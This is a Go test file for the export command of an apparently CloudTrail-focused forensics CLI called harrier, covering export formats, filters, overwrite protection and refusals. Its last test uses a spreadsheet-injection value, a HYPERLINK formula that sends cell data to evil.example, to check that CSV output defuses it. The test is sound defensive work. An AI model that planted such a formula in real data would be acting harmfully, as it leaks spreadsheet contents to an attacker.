package cli

import (
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"reflect"
	"sort"
	"strings"
	"testing"
)

// exportRead runs an export to a file and returns the file's text.
func exportRead(t *testing.T, args ...string) string {
	t.Helper()
	out := filepath.Join(t.TempDir(), "out")
	_, errOut, code := harrier(t, append(append([]string{"export"}, args...), "-o", out)...)
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	b, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func jsonLines(t *testing.T, text string) []map[string]any {
	t.Helper()
	var out []map[string]any
	for _, l := range strings.Split(strings.TrimSpace(text), "\n") {
		if l == "" {
			continue
		}
		var m map[string]any
		if err := json.Unmarshal([]byte(l), &m); err != nil {
			t.Fatalf("line %q: %v", l, err)
		}
		out = append(out, m)
	}
	return out
}

func ids(lines []map[string]any) []string {
	var out []string
	for _, m := range lines {
		out = append(out, m["event_id"].(string))
	}
	return out
}

// TestExportEventFormats runs each event format end to end, with the
// timeline's filters and --scope.
func TestExportEventFormats(t *testing.T) {
	caseDir := craftedCase(t)
	cases := []struct {
		name   string
		args   []string
		events []string
	}{
		{"jsonl", []string{"--format", "jsonl"}, []string{"a1", "a2", "b1", "c1", "c2"}},
		{"jsonl filtered", []string{"--format", "jsonl", "--account", "111111111111", "--errors"}, []string{"a2"}},
		{"jsonl ipv6 cidr", []string{"--format", "jsonl", "--ip", "2001:db8::/32"}, []string{"c1"}},
		{"timesketch since", []string{"--format", "timesketch", "--since", "2026-03-11T10:00:02Z"}, []string{"b1", "c1", "c2"}},
		{"timesketch scope", []string{"--format", "timesketch", "--scope", "key:AKIACCCCCCCCCCCCCCC1"}, []string{"c1", "c2"}},
		{"csv limit", []string{"--format", "csv", "--limit", "2"}, []string{"a1", "a2"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			text := exportRead(t, append([]string{"--case", caseDir}, c.args...)...)
			var got []string
			if strings.Contains(c.name, "csv") {
				rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
				if err != nil {
					t.Fatal(err)
				}
				for _, r := range rows[1:] {
					got = append(got, r[1])
				}
			} else {
				got = ids(jsonLines(t, text))
			}
			if !reflect.DeepEqual(got, c.events) {
				t.Errorf("events %v, want %v", got, c.events)
			}
		})
	}
}

// TestExportJSONLIsTheTimelinePlusRecord keeps export's JSON Lines the
// timeline's, key for key, with the record added.
func TestExportJSONLIsTheTimelinePlusRecord(t *testing.T) {
	caseDir := craftedCase(t)
	tl, _, code := harrier(t, "timeline", "--case", caseDir, "--format", "jsonl")
	if code != 0 {
		t.Fatal(code)
	}
	ex, errOut, code := harrier(t, "export", "--case", caseDir, "--format", "jsonl", "-o", "-")
	if code != 0 || !strings.Contains(errOut, "exported 5 events as jsonl to standard output") {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	want, got := jsonLines(t, tl), jsonLines(t, ex)
	for i := range got {
		rec, ok := got[i]["record"].(map[string]any)
		if !ok || rec["eventID"] != got[i]["event_id"] {
			t.Errorf("line %d: record %v", i+1, got[i]["record"])
		}
		delete(got[i], "record")
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("export\n%v\ntimeline\n%v", got, want)
	}
	noRec := exportRead(t, "--case", caseDir, "--format", "jsonl", "--no-record")
	if !reflect.DeepEqual(jsonLines(t, noRec), want) {
		t.Errorf("--no-record is not the timeline's lines:\n%s", noRec)
	}
}

func TestExportParquetCommand(t *testing.T) {
	caseDir := craftedCase(t)
	out := filepath.Join(t.TempDir(), "athena")
	_, errOut, code := harrier(t, "export", "--case", caseDir, "--format", "parquet", "-o", out)
	if code != 0 || !strings.Contains(errOut, "exported 5 events as parquet") {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	var files []string
	filepath.Walk(out, func(p string, fi os.FileInfo, err error) error {
		if err == nil && !fi.IsDir() {
			rel, _ := filepath.Rel(out, p)
			files = append(files, filepath.ToSlash(rel))
		}
		return nil
	})
	sort.Strings(files)
	want := []string{
		"account=111111111111/region=us-east-1/date=2026-03-10/events_0.parquet",
		"account=111111111111/region=us-east-1/date=2026-03-11/events_0.parquet",
		"account=111111111111/region=us-east-1/date=2026-03-12/events_0.parquet",
		"account=222222222222/region=eu-west-1/date=2026-03-13/events_0.parquet",
		"account=222222222222/region=eu-west-1/date=2026-03-14/events_0.parquet",
	}
	if !reflect.DeepEqual(files, want) {
		t.Errorf("files\n%q\nwant\n%q", files, want)
	}
	if leftovers, _ := filepath.Glob(filepath.Join(filepath.Dir(out), ".athena.partial-*")); len(leftovers) > 0 {
		t.Errorf("scratch left behind: %v", leftovers)
	}
	// never clobbered silently; replaced on request; a foreign folder never
	_, errOut, code = harrier(t, "export", "--case", caseDir, "--format", "parquet", "-o", out)
	if code != ExitError || !strings.Contains(errOut, "--overwrite") {
		t.Errorf("second export: exit %d %s", code, errOut)
	}
	_, errOut, code = harrier(t, "export", "--case", caseDir, "--format", "parquet", "-o", out, "--overwrite", "--account", "222222222222")
	if code != 0 {
		t.Fatalf("--overwrite: exit %d %s", code, errOut)
	}
	if _, err := os.Stat(filepath.Join(out, "account=111111111111")); !os.IsNotExist(err) {
		t.Error("--overwrite kept the earlier export's partitions")
	}
	foreign := t.TempDir()
	os.WriteFile(filepath.Join(foreign, "notes.txt"), []byte("mine"), 0o644)
	_, errOut, code = harrier(t, "export", "--case", caseDir, "--format", "parquet", "-o", foreign, "--overwrite")
	if code != ExitError || !strings.Contains(errOut, "notes.txt") {
		t.Errorf("foreign folder: exit %d %s", code, errOut)
	}
	if _, err := os.Stat(filepath.Join(foreign, "notes.txt")); err != nil {
		t.Error("a folder of other files was replaced")
	}
	// no events: an empty directory, not an error
	empty := filepath.Join(t.TempDir(), "none")
	if _, errOut, code = harrier(t, "export", "--case", caseDir, "--format", "parquet", "-o", empty, "--key", "AKIANOPE"); code != 0 {
		t.Errorf("no events: exit %d %s", code, errOut)
	}
	if fi, err := os.Stat(empty); err != nil || !fi.IsDir() {
		t.Errorf("no events: %v", err)
	}
}

func TestExportFindings(t *testing.T) {
	caseDir := craftedCase(t)
	_, errOut, code := harrier(t, "export", "--case", caseDir, "--what", "findings", "--format", "jsonl", "-o", "-")
	if code != ExitError || !strings.Contains(errOut, "no hunt") {
		t.Errorf("before a hunt: exit %d %s", code, errOut)
	}
	rulesDir := t.TempDir()
	writeFiles(t, rulesDir, map[string]string{"create_user.yml": ruleCreateUser})
	huntOut, errOut, code := harrier(t, "hunt", "--case", caseDir, "--rules", rulesDir, "--no-analytics", "--format", "jsonl")
	if code != 0 {
		t.Fatalf("hunt: exit %d %s", code, errOut)
	}
	hunted := decodeFindings(t, huntOut)
	if len(hunted) == 0 {
		t.Fatal("the hunt found nothing; the test proves nothing")
	}
	lines := jsonLines(t, exportRead(t, "--case", caseDir, "--what", "findings", "--format", "jsonl"))
	if len(lines) != len(hunted) {
		t.Fatalf("%d findings exported, the hunt printed %d", len(lines), len(hunted))
	}
	for i, l := range lines {
		for _, k := range []string{"finding_id", "hunt_id", "rule_source"} {
			if _, ok := l[k]; !ok {
				t.Errorf("finding %d lacks %s", i, k)
			}
			delete(l, k)
		}
		if !reflect.DeepEqual(l, hunted[i]) {
			t.Errorf("finding %d\n%v\nhunt printed\n%v", i, l, hunted[i])
		}
	}
	var log map[string]any
	if err := json.Unmarshal([]byte(exportRead(t, "--case", caseDir, "--what", "findings", "--format", "sarif")), &log); err != nil {
		t.Fatal(err)
	}
	run := log["runs"].([]any)[0].(map[string]any)
	if log["version"] != "2.1.0" || len(run["results"].([]any)) != len(hunted) {
		t.Errorf("sarif: version %v, %d results", log["version"], len(run["results"].([]any)))
	}
}

// TestExportTimesketchWithoutTime: an event Timesketch cannot place is
// reported, and the exit code says the export is partial.
func TestExportTimesketchWithoutTime(t *testing.T) {
	dir := t.TempDir()
	src := filepath.Join(dir, "events.jsonl")
	os.WriteFile(src, []byte(crafted[0].json()+"\n"+`{"eventID":"nt","eventTime":"never","eventName":"ListUsers","eventSource":"iam.amazonaws.com"}`+"\n"), 0o644)
	caseDir := filepath.Join(dir, "case")
	if _, errOut, code := harrier(t, "ingest", "--case", caseDir, src); code != 0 {
		t.Fatal(errOut)
	}
	out := filepath.Join(dir, "ts.jsonl")
	_, errOut, code := harrier(t, "export", "--case", caseDir, "--format", "timesketch", "-o", out)
	if code != ExitPartial || !strings.Contains(errOut, "1 events have no time") {
		t.Errorf("exit %d: %s", code, errOut)
	}
	b, _ := os.ReadFile(out)
	if got := ids(jsonLines(t, string(b))); !reflect.DeepEqual(got, []string{"a1"}) {
		t.Errorf("events %v", got)
	}
}

func TestExportRefusals(t *testing.T) {
	caseDir := craftedCase(t)
	existing := filepath.Join(t.TempDir(), "taken.csv")
	os.WriteFile(existing, []byte("keep me"), 0o644)
	cases := []struct {
		name string
		args []string
		code int
		msg  string
	}{
		{"no output", []string{"--format", "csv"}, ExitUsage, "-o PATH"},
		{"no format", []string{"-o", "-"}, ExitUsage, "--format"},
		{"unknown format", []string{"--format", "xml", "-o", "-"}, ExitUsage, "--format"},
		{"sarif is for findings", []string{"--format", "sarif", "-o", "-"}, ExitUsage, "--format"},
		{"csv is for events", []string{"--what", "findings", "--format", "csv", "-o", "-"}, ExitUsage, "--format"},
		{"unknown what", []string{"--what", "rules", "--format", "jsonl", "-o", "-"}, ExitUsage, "--what"},
		{"parquet to stdout", []string{"--format", "parquet", "-o", "-"}, ExitUsage, "directory"},
		{"parquet ipv6 cidr", []string{"--format", "parquet", "-o", filepath.Join(t.TempDir(), "p"), "--ip", "2001:db8::/32"}, ExitUsage, "IPv6"},
		{"findings filtered", []string{"--what", "findings", "--format", "jsonl", "-o", "-", "--key", "AKIAX"}, ExitUsage, "findings are exported whole"},
		{"bad scope", []string{"--format", "csv", "-o", "-", "--scope", "user:bob"}, ExitUsage, "--scope"},
		{"bad time", []string{"--format", "csv", "-o", "-", "--since", "yesterday"}, ExitUsage, "--since"},
		{"stray argument", []string{"--format", "csv", "out.csv"}, ExitUsage, "-o"},
		{"into the evidence", []string{"--format", "csv", "-o", filepath.Join(caseDir, "evidence", "x.csv")}, ExitUsage, "the case's own records"},
		{"onto the database", []string{"--format", "csv", "-o", filepath.Join(caseDir, "harrier.duckdb"), "--overwrite"}, ExitUsage, "the case's own records"},
		{"existing file", []string{"--format", "csv", "-o", existing}, ExitError, "--overwrite"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			_, errOut, code := harrier(t, append([]string{"export", "--case", caseDir}, c.args...)...)
			if code != c.code || !strings.Contains(errOut, c.msg) {
				t.Errorf("exit %d, want %d; stderr %q should say %q", code, c.code, errOut, c.msg)
			}
		})
	}
	if b, _ := os.ReadFile(existing); string(b) != "keep me" {
		t.Error("an existing file was clobbered")
	}
	if _, errOut, code := harrier(t, "export", "--case", caseDir, "--format", "csv", "-o", existing, "--overwrite"); code != 0 {
		t.Errorf("--overwrite: exit %d %s", code, errOut)
	}
	if b, _ := os.ReadFile(existing); !strings.HasPrefix(string(b), "time,event_id,") {
		t.Errorf("--overwrite did not replace the file: %q", b)
	}
	if leftovers, _ := filepath.Glob(filepath.Join(filepath.Dir(existing), ".*partial*")); len(leftovers) > 0 {
		t.Errorf("scratch left behind: %v", leftovers)
	}
}

// TestCSVDefusesFormulasInTimelineAndExport: an attacker's text that a
// spreadsheet would run as a formula is defused the same way by `timeline
// --format csv` and `export --format csv`.
func TestCSVDefusesFormulasInTimelineAndExport(t *testing.T) {
	dir := t.TempDir()
	formula := ev{id: "f1", name: "GetCallerIdentity", source: "sts.amazonaws.com", key: "AKIAFFFFFFFFFFFFFFF1", arn: "arn:aws:iam::111111111111:user/eve",
		ip: "198.51.100.66", account: "111111111111", region: "us-east-1", ua: `=HYPERLINK("https://evil.example/?"&A1,"click")`, sec: 5}
	src := filepath.Join(dir, "events.jsonl")
	if err := os.WriteFile(src, []byte(formula.json()+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	caseDir := filepath.Join(dir, "case")
	if _, errOut, code := harrier(t, "ingest", "--case", caseDir, src); code != 0 {
		t.Fatalf("ingest: exit %d %s", code, errOut)
	}
	tl, errOut, code := harrier(t, "timeline", "--case", caseDir, "--format", "csv")
	if code != 0 {
		t.Fatalf("timeline: exit %d %s", code, errOut)
	}
	ex := exportRead(t, "--case", caseDir, "--format", "csv")
	want := `'` + formula.ua
	for name, text := range map[string]string{"timeline": tl, "export": ex} {
		rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if len(rows) != 2 || rows[1][8] != want {
			t.Errorf("%s: user agent cell %q, want %q", name, rows[1][8], want)
		}
	}
}
